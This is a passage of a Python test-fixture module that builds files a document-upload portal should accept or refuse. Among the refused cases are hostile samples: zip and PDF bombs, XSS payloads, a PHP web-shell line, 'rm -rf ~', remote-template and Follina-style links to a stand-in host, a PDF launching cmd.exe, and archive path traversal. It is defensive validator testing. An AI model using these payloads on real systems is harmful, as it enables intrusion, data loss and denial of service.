"""120 files and more, made by code: those the portal must take and those it must refuse."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache

from openpyxl import Workbook
from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter

from netzwerk.demo.dateien import (
    KOPF,
    OOXML,
    assemble_pdf,
    build_docx,
    build_pdf,
    build_zip,
    content_types,
    relations,
)

ODF = "application/vnd.oasis.opendocument"
MAIN = {
    "docx": ("word/document.xml", f"{OOXML}.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{OOXML}.spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{OOXML}.presentationml.presentation.main+xml"),
}
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Fall:
    """One file: the name it is uploaded under and how its bytes are made."""

    name: str
    datei: str
    bytes: Callable[[], bytes]

    def __str__(self) -> str:
        return self.name


# Images


def bild(kind: str, mode: str = "RGB", size: tuple[int, int] = (60, 40), **options: object) -> bytes:
    out = io.BytesIO()
    image = Image.new(mode, size, 1 if mode == "1" else None)
    if mode in {"RGB", "L"} and size[0] < 500:
        image = Image.effect_noise(size, 40).convert(mode)
    image.save(out, kind, **options)
    return out.getvalue()


def mit_exif(kind: str, orientation: int = 6) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010E] = "Wohnung Musterstraße 5"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (51.0, 28.0, 58.0)
    return bild(kind, exif=exif.tobytes())


def png_mit_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Erika Musterfrau")
    return bild("PNG", pnginfo=info)


def png_kopf(width: int, height: int, *, depth: int = 8, colour: int = 2, data: bytes = b"") -> bytes:
    """A PNG that claims a size; its data need not fit."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(data))
        + chunk(b"IEND", b"")
    )


def bewegt(kind: str) -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    frames[0].save(out, kind, save_all=True, append_images=frames[1:])
    return out.getvalue()


def jpeg_16_bit_kopf() -> bytes:
    """A JPEG whose frame header claims 65,500 × 65,500."""
    data = bytearray(bild("JPEG"))
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(data)


# Office containers


def ooxml(
    endung: str, mehr: dict[str, str | bytes] | None = None, typen: dict[str, str] | None = None
) -> bytes:
    part, kind = MAIN[endung]
    return build_zip(
        {
            "[Content_Types].xml": content_types({f"/{part}": kind, **(typen or {})}),
            "_rels/.rels": relations(part),
            part: f"{KOPF}<root/>",
            **(mehr or {}),
        }
    )


def xlsx() -> bytes:
    book = Workbook()
    book.active.append(["Kurs", "Plätze"])
    book.active.append(["A1", 12])
    book.active["C1"] = "=SUM(B2:B2)"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def odf(
    endung: str, mehr: dict[str, str | bytes] | None = None, mimetype: str = "", manifest: str = ""
) -> bytes:
    kinds = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}
    return build_zip(
        {
            "mimetype": mimetype or f"{ODF}.{kinds[endung]}",
            "content.xml": f"{KOPF}<office:document-content/>",
            "META-INF/manifest.xml": manifest or f"{KOPF}<manifest:manifest/>",
            **(mehr or {}),
        },
        gespeichert=frozenset({"mimetype"}),
    )


def zip_mit_kommentar() -> bytes:
    out = io.BytesIO(build_docx(["Text"]))
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = b"<html><script>alert(1)</script>"
    return out.getvalue()


def patched(data: bytes, old: bytes, new: bytes) -> bytes:
    assert len(old) == len(new)
    assert old in data
    return data.replace(old, new)


def verschluesselt() -> bytes:
    """All entries claim to be encrypted."""
    data = bytearray(build_docx(["geheim"]))
    for at in find(data, b"PK\x03\x04"):
        data[at + 6] |= 1
    for at in find(data, b"PK\x01\x02"):
        data[at + 8] |= 1
    return bytes(data)


def find(data: bytes | bytearray, mark: bytes) -> Iterator[int]:
    at = data.find(mark)
    while at >= 0:
        yield at
        at = data.find(mark, at + 1)


def groesse_gelogen(size: int) -> bytes:
    """The directory claims another unpacked size for the last entry than comes out."""
    data = bytearray(ooxml("docx", {"word/media/a.bin": b"\0" * 5_000_000}))
    last = list(find(data, b"PK\x01\x02"))[-1]
    data[last + 24 : last + 28] = struct.pack("<I", size)
    return bytes(data)


@cache
def nullen(size: int) -> bytes:
    return b"\0" * size


def bombe() -> bytes:
    """150 MB of zeros in 150 KB."""
    return ooxml("docx", {"word/media/a.xml": nullen(150_000_000)})


def bombe_in_teilen() -> bytes:
    return ooxml("xlsx", {f"xl/media/{n}.bin": nullen(9_000_000) for n in range(24)})


def bombe_verschachtelt() -> bytes:
    inner = build_zip({"[Content_Types].xml": "<Types/>", "a": nullen(120_000_000)})
    return ooxml("docx", {f"word/embeddings/{n}.xlsx": inner for n in range(3)})


def ueberlappend() -> bytes:
    """Two directory entries share the same bytes."""
    data = bytearray(ooxml("docx", {"word/a.xml": "a" * 500, "word/b.xml": "b" * 500}))
    heads = list(find(data, b"PK\x01\x02"))
    data[heads[-1] + 42 : heads[-1] + 46] = data[heads[-2] + 42 : heads[-2] + 46]
    return bytes(data)


def quine() -> bytes:
    """A container inside a container inside a container."""
    data = ooxml("docx")
    for _ in range(3):
        data = ooxml("docx", {"word/embeddings/a.docx": data})
    return data


def doppelte_teile() -> bytes:
    out = io.BytesIO(build_docx(["eins"]))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/Document.xml", f"{KOPF}<zwei/>")
    return out.getvalue()


def ole(*words: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500 + b"".join(w.encode("utf-16-le") for w in words)


def relation(kind: str, target: str) -> str:
    return (
        f'{KOPF}<Relationships><Relationship Id="r1" TargetMode="External" Target="{target}" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/></Relationships>'
    )


# PDF


def pdf(**change: object) -> bytes:
    """A PDF made by pypdf, changed as asked."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(build_pdf(["Hallo"]))))
    if attachment := change.get("attachment"):
        writer.add_attachment("a.exe", bytes(attachment))  # type: ignore[arg-type]
    if "encrypt" in change:
        writer.encrypt(str(change["encrypt"]), **change.get("options", {}))  # type: ignore[arg-type]
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_mit(action: bytes, mehr: tuple[bytes, ...] = ()) -> bytes:
    """A PDF whose catalog carries `action`."""
    return assemble_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + action + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            *mehr,
        ],
        b"/Root 1 0 R",
    )


def strom(data: bytes, kopf: bytes = b"") -> bytes:
    packed = zlib.compress(data)
    return b"<< %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (kopf, len(packed), packed)


def pdf_objektstrom(catalog: bytes) -> bytes:
    """A PDF 1.5: catalog, pages and page lie compressed in one object stream."""
    inner = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    head, body = b"", b""
    for number, row in enumerate(inner, start=1):
        head += b"%d %d " % (number, len(body))
        body += row + b"\n"
    container = strom(head + body, b"/Type /ObjStm /N 3 /First %d" % len(head))
    out = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    at = len(out)
    out += b"4 0 obj\n" + container + b"\nendobj\n"
    table = len(out)
    rows = b"\0\0\0\0\0\xff" + b"".join(b"\2" + struct.pack(">I", 4) + bytes([n]) for n in range(3))
    rows += b"\1" + struct.pack(">I", at) + b"\0" + b"\1" + struct.pack(">I", table) + b"\0"
    out += b"5 0 obj\n" + strom(rows, b"/Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R") + b"\nendobj\n"
    return out + b"startxref\n%d\n%%%%EOF\n" % table


def pdf_nachgetragen() -> bytes:
    """A second revision appended, as programs do when saving quickly; the catalog gains a language."""
    first = build_pdf(["alt"])
    at = len(first)
    second = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Lang (de) >>\nendobj\n"
    table = at + len(second)
    start = first.rindex(b"startxref\n") + 10
    old = first[start:].split()[0]
    second += b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 9 /Root 1 0 R /Prev %s >>\n" % (at, old)
    return first + second + b"startxref\n%d\n%%%%EOF\n" % table


def pdf_bild_mit_zufall() -> bytes:
    """Bytes of an image in which forbidden names stand by chance."""
    noise = (
        random.Random(7).randbytes(5_000) + b" /JS /Launch /EmbeddedFile " + random.Random(8).randbytes(100)
    )
    image = b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /Length %d >>\nstream\n%s\nendstream"
    return pdf_mit(b"", (image % (len(noise), noise),))


def pdf_tief() -> bytes:
    return pdf_mit(b"/A " + b"[" * 20_000 + b"]" * 20_000)


def pdf_zyklus() -> bytes:
    return assemble_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"], b"/Root 1 0 R"
    )


def pdf_objektbombe() -> bytes:
    """An object stream that unpacks to 100 MB."""
    return pdf_mit(b"", (strom(b"1 0 " + nullen(100_000_000), b"/Type /ObjStm /N 1 /First 4"),) * 8)


def pdf_viele_stroeme() -> bytes:
    return build_pdf(["x"])[:-6] + b"stream\n" * 400_000 + b"%%EOF\n"


# Text

ICS = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//x//DE\r\nBEGIN:VEVENT\r\nUID:1\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"


def t(text: str, charset: str = "utf-8") -> Callable[[], bytes]:
    return lambda: text.encode(charset)


GUT = (
    Fall("pdf-einfach", "Protokoll.pdf", lambda: build_pdf(["Sitzung am Dienstag"], titel="Protokoll")),
    Fall("pdf-viele-seiten", "Bericht.PDF", lambda: build_pdf([f"Zeile {n}" for n in range(3_000)])),
    Fall("pdf-von-pypdf", "Merkblatt.pdf", pdf),
    Fall("pdf-objektstrom", "Neu.pdf", lambda: pdf_objektstrom(b"/Lang (de)")),
    Fall("pdf-nachgetragen", "Zwei Revisionen.pdf", pdf_nachgetragen),
    Fall("pdf-nachgestelltes", "Scan.pdf", lambda: build_pdf(["x"]) + b"\r\n\0\0" * 50),
    Fall("pdf-zufallstreffer", "Foto.pdf", pdf_bild_mit_zufall),
    Fall("pdf-namen-im-text", "Anleitung.pdf", lambda: build_pdf(["Was /JavaScript und /Launch bedeuten"])),
    Fall("pdf-sprungziel", "Gliederung.pdf", lambda: pdf_mit(b"/OpenAction [3 0 R /Fit]")),
    Fall("pdf-weblink", "Links.pdf", lambda: pdf_mit(b"/X << /S /URI /URI (https://halle.example/) >>")),
    Fall("pdf-endung-doppelt", "Einladung.docx.pdf", lambda: build_pdf(["x"])),
    Fall("docx-einfach", "Konzept.docx", lambda: build_docx(["Sprachkurse in Halle", "ab Oktober"])),
    Fall("docx-lang", "Lang.docx", lambda: build_docx([f"Absatz {n} mit eigenem Text" for n in range(8_000)])),
    Fall("docx-umlaute", "Übergänge gestalten (Entwurf 3).docx", lambda: build_docx(["Über Ärzte"])),
    Fall("docx-bild", "Mit Bild.docx", lambda: ooxml("docx", {"word/media/image1.png": bild("PNG")})),
    Fall("docx-tabelle-eingebettet", "Bericht.docx", lambda: ooxml("docx", {"word/embeddings/a.xlsx": xlsx()})),
    Fall("docx-ole-harmlos", "Diagramm.docx", lambda: ooxml("docx", {"word/embeddings/o.bin": ole("WordDoc")})),
    Fall("docx-ordnereintrag", "Ordner.docx", lambda: ooxml("docx", {"word/media/": b""})),
    Fall(
        "docx-vorlage-lokal", "Vorlage.docx",
        lambda: ooxml(
            "docx", {"word/_rels/settings.xml.rels": relation("attachedTemplate", "file:///C:/Vorlagen/a.dotx")}
        ),
    ),
    Fall(
        "docx-weblink", "Weblink.docx",
        lambda: ooxml("docx", {"word/_rels/document.xml.rels": relation("hyperlink", "https://halle.example")}),
    ),
    Fall("docx-klein-stark-gepackt", "Leer.docx", lambda: ooxml("docx", {"word/a.xml": "<a>" + " " * 3_000_000})),
    Fall("xlsx-openpyxl", "Kursliste.xlsx", xlsx),
    Fall("xlsx-einfach", "Plätze.XLSX", lambda: ooxml("xlsx")),
    Fall("pptx-einfach", "Vortrag.pptx", lambda: ooxml("pptx", {"ppt/media/a.jpeg": bild("JPEG")})),
    Fall("odt-einfach", "Satzung.odt", lambda: odf("odt")),
    Fall("odt-ganz-gepackt", "Gepackt.odt", lambda: build_zip(
        {"content.xml": "<a/>", "mimetype": f"{ODF}.text\n", "META-INF/manifest.xml": "<m/>"})),
    Fall("odt-leere-bibliothek", "Bibliothek.odt", lambda: odf("odt", {
        "Basic/script-lc.xml": "<l/>", "Basic/Standard/script-lb.xml": "<l/>"})),
    Fall("odt-alter-doctype", "Alt.odt", lambda: odf(
        "odt", manifest='<!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "M.dtd"><m/>')),
    Fall("ods-einfach", "Zahlen.ods", lambda: odf("ods")),
    Fall("odp-einfach", "Folien.odp", lambda: odf("odp", {"Pictures/a.png": bild("PNG")})),
    Fall("png-rgb", "Karte.png", lambda: bild("PNG")),
    Fall("png-durchsichtig", "Logo.png", lambda: bild("PNG", "RGBA")),
    Fall("png-palette", "Grafik.png", lambda: bild("PNG", "P")),
    Fall("png-schwarzweiss", "Scan.png", lambda: bild("PNG", "1")),
    Fall("png-16-bit", "Messung.png", lambda: bild("PNG", "I;16")),
    Fall("png-mit-angaben", "Foto.png", png_mit_text),
    Fall("png-gross", "Plakat.png", lambda: bild("PNG", "L", (7_000, 5_000))),
    Fall("jpg-rgb", "Foto.jpg", lambda: bild("JPEG")),
    Fall("jpg-grau", "Kopie.JPG", lambda: bild("JPEG", "L")),
    Fall("jpg-cmyk", "Druck.jpeg", lambda: bild("JPEG", "CMYK")),
    Fall("jpg-fortlaufend", "Web.jpg", lambda: bild("JPEG", progressive=True)),
    Fall("jpg-exif-gedreht", "IMG_0815.jpg", lambda: mit_exif("JPEG")),
    Fall("jpg-40-megapixel", "Panorama.jpg", lambda: bild("JPEG", "RGB", (8_000, 5_000))),
    Fall("webp-einfach", "Foto.webp", lambda: bild("WEBP")),
    Fall("webp-durchsichtig", "Logo.webp", lambda: bild("WEBP", "RGBA", lossless=True)),
    Fall("txt-utf8", "Notiz.txt", t("Grüße aus Halle\n")),
    Fall("txt-bom", "Notiz mit BOM.txt", t("Grüße\r\n", "utf-8-sig")),
    Fall("txt-cp1252", "Alt.txt", t("Größe – 5 €\r\n", "cp1252")),
    Fall("txt-spitze-klammern", "Formel.txt", t("a < b und <b>fett</b>; später" + " " * 500 + "auch <script>")),
    Fall("txt-html-erklaert", "Erklärung.txt", t("x" * 600 + " <html> ist der Anfang einer Webseite.")),
    Fall("csv-semikolon", "Liste.csv", t("Name;Plätze\r\nKurs A1;12\r\n")),
    Fall("csv-bm", "BM.csv", t("BM;PK;MZ\n1;2;3\n")),
    Fall("csv-cp1252", "Excel.csv", t("Straße;Nr\nMühlweg;1\n", "cp1252")),
    Fall("ics-einfach", "Termin.ics", t(ICS)),
    Fall("name-pfad", "C:\\Users\\Erika\\Plan.pdf", lambda: build_pdf(["x"])),
    Fall("name-punkt-am-ende", "Plan.pdf. ", lambda: build_pdf(["x"])),
    Fall("name-rtlo-harmlos", "Rechnung\u202efdp.pdf", lambda: build_pdf(["x"])),
    Fall("name-kodierter-pfad", "..%2f..%2fetc%2fpasswd.pdf", lambda: build_pdf(["x"])),
    Fall("name-lang", "ä" * 300 + ".txt", t("x")),
)  # fmt: skip

SCHLECHT = (
    # Names
    Fall("name-exe", "Rechnung.pdf.exe", lambda: build_pdf(["x"])),
    Fall("name-rtlo-exe", "Rechnung\u202efdp.exe", lambda: build_pdf(["x"])),
    Fall("name-null-html", "x.pdf\0.html", lambda: build_pdf(["x"])),
    Fall("name-null-kodiert", "x.pdf%00.html", lambda: build_pdf(["x"])),
    Fall("name-ohne-endung", "Protokoll", lambda: build_pdf(["x"])),
    Fall("name-nur-endung", ".pdf.", lambda: b""),
    Fall("name-datenstrom", "x.pdf:böse.exe", lambda: build_pdf(["x"])),
    Fall("name-breiter-punkt", "x.exe．pdf", lambda: build_pdf(["x"])),
    Fall("name-kyrillisch", "Plan.рdf", lambda: build_pdf(["x"])),
    Fall("name-leerzeichen-endung", "x.exe .js ", lambda: build_pdf(["x"])),
    Fall("name-docm", "Makro.docm", lambda: ooxml("docx")),
    Fall("name-doc", "Alt.doc", lambda: ole("WordDocument")),
    Fall("name-zip", "Alles.zip", lambda: build_zip({"a.txt": "a"})),
    Fall("name-svg", "Bild.svg", t("<svg xmlns='http://www.w3.org/2000/svg'/>")),
    Fall("name-html", "Seite.html", t("<html></html>")),
    Fall("name-gif", "Bild.gif", lambda: bewegt("GIF")),
    # Empty, large, wrong
    Fall("leer", "Leer.pdf", lambda: b""),
    Fall("zu-gross", "Gross.txt", lambda: b"a" * (20 * 1024 * 1024 + 1)),
    Fall("falsch-pdf-als-docx", "Brief.docx", lambda: build_pdf(["x"])),
    Fall("falsch-docx-als-pdf", "Brief.pdf", lambda: build_docx(["x"])),
    Fall("falsch-docx-als-xlsx", "Liste.xlsx", lambda: build_docx(["x"])),
    Fall("falsch-xlsx-als-pptx", "Vortrag.pptx", xlsx),
    Fall("falsch-odt-als-ods", "Zahlen.ods", lambda: odf("odt")),
    Fall("falsch-docx-als-odt", "Text.odt", lambda: build_docx(["x"])),
    Fall("falsch-odt-als-docx", "Text.docx", lambda: odf("odt")),
    Fall("falsch-zip-als-docx", "Archiv.docx", lambda: build_zip({"a.exe": b"MZ"})),
    Fall("falsch-png-als-jpg", "Foto.jpg", lambda: bild("PNG")),
    Fall("falsch-jpg-als-png", "Foto.png", lambda: bild("JPEG")),
    Fall("falsch-gif-als-png", "Foto.png", lambda: bewegt("GIF")),
    Fall("falsch-svg-als-png", "Foto.png", t("<svg xmlns='x' onload='alert(1)'/>")),
    Fall("falsch-exe-als-pdf", "Plan.pdf", lambda: b"MZ" + b"\0" * 500),
    Fall("falsch-exe-als-txt", "Plan.txt", lambda: b"MZ\x90\0" * 50),
    Fall("falsch-doc-als-docx", "Alt.docx", lambda: ole("WordDocument")),
    Fall("falsch-text-als-ics", "Termin.ics", t("Termin am Montag")),
    Fall("falsch-wav-als-webp", "Ton.webp", lambda: b"RIFF\x24\0\0\0WAVEfmt " + b"\0" * 50),
    # Cut off
    Fall("gekuerzt-pdf", "Halb.pdf", lambda: build_pdf([f"Z {n}" for n in range(500)])[:5_000]),
    Fall("gekuerzt-docx", "Halb.docx", lambda: build_docx([f"Z {n}" for n in range(500)])[:-200]),
    Fall("gekuerzt-png", "Halb.png", lambda: bild("PNG")[:-300]),
    Fall("gekuerzt-jpg", "Halb.jpg", lambda: bild("JPEG", size=(300, 300))[:2_000]),
    Fall("gekuerzt-webp", "Halb.webp", lambda: bild("WEBP")[:60]),
    Fall("gekuerzt-ics", "Halb.ics", t(ICS[:60])),
    Fall("verfaelscht-docx", "Defekt.docx", lambda: build_docx(["Text " * 300]).replace(b"PK\x03\x04", b"PK\x03\x05")),
    Fall("verfaelscht-crc", "Defekt.docx", lambda: patched(
        build_zip({"[Content_Types].xml": content_types({"/word/document.xml": MAIN["docx"][1]}),
                   "word/document.xml": "<root>AAAA</root>"}, gespeichert=frozenset({"word/document.xml"})),
        b"<root>AAAA", b"<root>BBBB")),
    Fall("pdf-ohne-seiten", "Leer.pdf", lambda: assemble_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"], b"/Root 1 0 R")),
    Fall("pdf-muell", "Müll.pdf", lambda: b"%PDF-1.7\n" + random.Random(1).randbytes(5_000) + b"\n%%EOF\n"),
    Fall("pdf-kopf-spaeter", "Vorn.pdf", lambda: b"\n\n" + build_pdf(["x"])),
    # Polyglots
    Fall("polyglott-pdf-zip", "Beides.pdf", lambda: build_pdf(["x"]) + build_docx(["x"]) + b"%%EOF"),
    Fall("polyglott-pdf-zip-ende", "Beides.pdf", lambda: build_pdf(["x"])[:-6] + build_zip({"%%EOF": "a"})),
    Fall("polyglott-zip-pdf", "Beides.docx", lambda: build_pdf(["x"]) + build_docx(["x"])),
    Fall("polyglott-zip-mit-pdf-vorn", "Beides.odt", lambda: build_zip(
        {"mimetype": f"{ODF}.text", "a.pdf": build_pdf(["x"]), "content.xml": "<a/>"},
        gespeichert=frozenset({"mimetype", "a.pdf"}))),
    Fall("polyglott-zip-anhang", "Mehr.docx", lambda: build_docx(["x"]) + b"<script>alert(1)</script>"),
    Fall("polyglott-zip-kommentar", "Kommentar.docx", zip_mit_kommentar),
    Fall("polyglott-gif-js", "Bild.txt", t("GIF89a=1;alert(document.cookie)")),
    Fall("polyglott-html-txt", "Text.txt", t("<html><script>alert(1)</script></html>")),
    Fall("polyglott-html-csv", "Liste.csv", t("\n\n  <!DOCTYPE html><body onload=alert(1)>")),
    Fall("polyglott-html-bom", "Text.txt", t("\ufeff<script>alert(1)</script>")),
    Fall("polyglott-html-frueh", "Text.txt", t("Hallo <iframe src=//boese.example></iframe>")),
    Fall("polyglott-xml-txt", "Text.txt", t("<?xml version='1.0'?><svg/>")),
    Fall("polyglott-php-txt", "Text.txt", t("<?php system($_GET[0]);")),
    Fall("polyglott-shell-txt", "Text.txt", t("#!/bin/sh\nrm -rf ~\n")),
    Fall("polyglott-rtf-txt", "Text.txt", t("{\\rtf1 \\object}")),
    Fall("polyglott-pdf-txt", "Text.txt", t("%PDF-1.4 ...")),
    Fall("polyglott-html-ics", "Termin.ics", t("<html>BEGIN:VCALENDAR END:VCALENDAR")),
    Fall("polyglott-pdf-html", "Seite.pdf", lambda: build_pdf(["x"]).replace(
        b"%\xe2\xe3\xcf\xd3", b"%<html><script>alert(1)</script>")),
    # Text
    Fall("txt-null", "Null.txt", lambda: b"Text\0mehr"),
    Fall("txt-utf16", "Unicode.txt", t("Text", "utf-16")),
    Fall("txt-binaer", "Binär.txt", lambda: bytes(range(1, 256))),
    Fall("txt-escape", "Terminal.txt", t("Text \x1b[31m rot")),
    # Macros and active content in containers
    Fall("makro-vba", "Makro.docx", lambda: ooxml("docx", {"word/vbaProject.bin": ole("VBA")})),
    Fall("makro-vba-xlsx", "Makro.xlsx", lambda: ooxml("xlsx", {"xl/VBAPROJECT.BIN": ole("VBA")})),
    Fall("makro-typ", "Makro.docx", lambda: ooxml("docx", typen={
        "/word/x.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"})),
    Fall("makro-umbenannt", "Makro.docx", lambda: build_zip({
        "[Content_Types].xml": content_types(
            {"/word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}),
        "word/document.xml": "<a/>"})),
    Fall("makro-excel4", "Makro.xlsx", lambda: ooxml("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"})),
    Fall("makro-activex", "Knopf.docx", lambda: ooxml("docx", {"word/activeX/activeX1.bin": b"x"})),
    Fall("makro-odf-basic", "Makro.odt", lambda: odf("odt", {"Basic/Standard/Module1.xml": "Sub Main"})),
    Fall("makro-odf-python", "Makro.odt", lambda: odf("odt", {"Scripts/python/a.py": "import os"})),
    Fall("makro-odf-ereignis", "Makro.ods", lambda: odf("ods", {
        "styles.xml": '<x xlink:href="vnd.sun.star.script:../../a.py$f?language=Python"/>'})),
    Fall("ole-paket", "Paket.docx", lambda: ooxml("docx", {"word/embeddings/o.bin": ole("\x01Ole10Native")})),
    Fall("ole-makro", "Ole.pptx", lambda: ooxml("pptx", {"ppt/embeddings/o.bin": ole("_VBA_PROJECT")})),
    Fall("programm-darin", "Programm.docx", lambda: ooxml("docx", {"word/media/image1.png": b"MZ" + b"\0" * 99})),
    Fall("vorlage-fern", "Fern.docx", lambda: ooxml("docx", {
        "word/_rels/settings.xml.rels": relation("attachedTemplate", "https://boese.example/a.dotm")})),
    Fall("ole-fern", "Follina.docx", lambda: ooxml("docx", {
        "word/_rels/document.xml.rels": relation("oleObject", "mhtml:https://boese.example/x.html!x")})),
    Fall("entity-xml", "Lachen.docx", lambda: ooxml("docx", {
        "word/a.xml": '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>'})),
    Fall("entity-typen", "Lachen.docx", lambda: build_zip({
        "[Content_Types].xml": '<!DOCTYPE l [<!ENTITY a "ha">]><Types>&a;</Types>', "word/document.xml": "<a/>"})),
    Fall("makro-verschachtelt", "Innen.docx", lambda: ooxml("docx", {
        "word/embeddings/a.xlsx": ooxml("xlsx", {"xl/vbaProject.bin": b"x"})})),
    Fall("archiv-darin", "Archiv.docx", lambda: ooxml("docx", {"word/media/a.zip": build_zip({"a": "b"})})),
    # Encrypted
    Fall("kennwort-zip", "Geheim.docx", verschluesselt),
    Fall("kennwort-ooxml", "Geheim.docx", lambda: ole("EncryptedPackage")),
    Fall("kennwort-odf", "Geheim.odt", lambda: odf("odt", manifest="<m><manifest:encryption-data/></m>")),
    Fall("kennwort-pdf", "Geheim.pdf", lambda: pdf(encrypt="geheim")),
    Fall("schreibschutz-pdf", "Schutz.pdf", lambda: pdf(encrypt="", options={"owner_password": "x"})),
    # Ways out of the container
    Fall("pfad-hoch", "Pfad.docx", lambda: ooxml("docx", {"word/../../../etc/cron.d/x": "x"})),
    Fall("pfad-absolut", "Pfad.docx", lambda: ooxml("docx", {"/etc/passwd": "x"})),
    Fall("pfad-rueckwaerts", "Pfad.docx", lambda: ooxml("docx", {"word\\..\\..\\x": "x"})),
    Fall("pfad-laufwerk", "Pfad.docx", lambda: ooxml("docx", {"C:/x.exe": "x"})),
    Fall("pfad-null", "Pfad.docx", lambda: patched(ooxml("docx", {"word/aXb.xml": "x"}), b"word/aXb", b"word/a\0b")),
    Fall("teile-doppelt", "Doppelt.docx", doppelte_teile),
    Fall("teil-fehlt", "Fehlt.docx", lambda: build_zip({
        "[Content_Types].xml": content_types({"/word/document.xml": MAIN["docx"][1]}), "a.xml": "<a/>"})),
    Fall("odf-ohne-inhalt", "Fehlt.odt", lambda: build_zip({"mimetype": f"{ODF}.text"})),
    Fall("odf-ohne-mimetype", "Fehlt.odt", lambda: build_zip({"content.xml": "<a/>"})),
    # Bombs
    Fall("bombe", "Bombe.docx", bombe),
    Fall("bombe-in-teilen", "Bombe.xlsx", bombe_in_teilen),
    Fall("bombe-verschachtelt", "Bombe.docx", bombe_verschachtelt),
    Fall("bombe-quine", "Quine.docx", quine),
    Fall("bombe-ueberlappend", "Bombe.docx", ueberlappend),
    Fall("bombe-4-gb-kopf", "Kopf.docx", lambda: groesse_gelogen(0xFFFF_FFF0)),
    Fall("bombe-kleiner-kopf", "Kopf.docx", lambda: groesse_gelogen(10)),
    Fall("bombe-eintraege", "Viele.docx", lambda: ooxml("docx", {f"a/{n}": "" for n in range(2_001)})),
    Fall("bombe-png-65500", "Riese.png", lambda: png_kopf(65_500, 65_500, data=nullen(10_000))),
    Fall("bombe-png-42-megapixel", "Riese.png", lambda: png_kopf(7_000, 6_000, depth=1, colour=0, data=nullen(5_256_000))),
    Fall("bombe-jpg-65500", "Riese.jpg", jpeg_16_bit_kopf),
    Fall("bombe-png-null", "Nichts.png", lambda: png_kopf(0, 0)),
    Fall("bewegt-webp", "Film.webp", lambda: bewegt("WEBP")),
    Fall("bewegt-png", "Film.png", lambda: bewegt("PNG")),
    Fall("bombe-pdf-objektstrom", "Bombe.pdf", pdf_objektbombe),
    Fall("bombe-pdf-tief", "Tief.pdf", pdf_tief),
    Fall("bombe-pdf-zyklus", "Kreis.pdf", pdf_zyklus),
    Fall("bombe-pdf-stroeme", "Ströme.pdf", pdf_viele_stroeme),
    # Active PDF
    Fall("pdf-js", "Skript.pdf", lambda: pdf_mit(b"/Names << /JavaScript << /Names [(a) 3 0 R] >> >>")),
    Fall("pdf-js-oeffnen", "Skript.pdf", lambda: pdf_mit(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")),
    Fall("pdf-js-kodiert", "Skript.pdf", lambda: pdf_mit(b"/OpenAction << /S /J#61va#53cript /#4a#53 (x) >>")),
    Fall("pdf-js-objektstrom", "Skript.pdf", lambda: pdf_objektstrom(b"/OpenAction << /S /JavaScript /JS (x) >>")),
    Fall("pdf-js-kodiert-objektstrom", "Skript.pdf", lambda: pdf_objektstrom(b"/AA << /WC << /S /#4AavaScript /J#53 (x) >> >>")),
    Fall("pdf-start", "Start.pdf", lambda: pdf_mit(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
    Fall("pdf-anhang", "Anhang.pdf", lambda: pdf(attachment=b"MZ")),
    Fall("pdf-anhang-anmerkung", "Anhang.pdf", lambda: pdf_mit(b"/X << /Type /Annot /Subtype /FileAttachment >>")),
    Fall("pdf-medien", "Film.pdf", lambda: pdf_mit(b"/X << /Subtype /RichMedia >>")),
